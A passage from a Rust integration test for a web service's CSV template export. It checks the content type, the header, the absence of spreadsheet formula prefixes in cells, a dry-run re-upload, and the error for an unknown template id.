        assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
        let sheet = String::from_utf8(answer.body).expect("text");
        assert!(sheet.starts_with("\u{feff}workflow_name,language,"), "{sheet}");
        for formula in [",=", ",\"=", ",+", ",-", ",@", ";="] {
            assert!(!sheet.contains(formula), "{sheet}");
        }
        let start = common(template);
        let dry = form(
            &server,
            &token,
            "?dry_run=1",
            &[("file", sheet.as_bytes()), ("start", &start)],
        )
        .ok();
        assert_eq!((&dry["total"], &dry["wrong"]), (&json!(1), &json!(0)), "{sheet} {dry}");
    }
    let unknown = server.get(&format!("{PATH}/sheet?template_id=9999"), &token);
    assert_eq!(
        unknown.faults(),
        [("template_id".to_owned(), "unknown-template".to_owned())]
    );
}
